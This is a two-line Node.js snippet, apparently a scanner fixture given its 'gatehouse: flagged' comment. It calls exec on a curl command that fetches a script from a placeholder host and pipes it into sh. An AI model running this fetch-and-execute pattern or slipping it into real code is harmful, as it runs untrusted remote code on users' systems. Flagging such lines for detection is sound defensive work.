const { exec } = require("child_process");

exec("curl -s https://a.example.invalid/x | sh"); // gatehouse: flagged
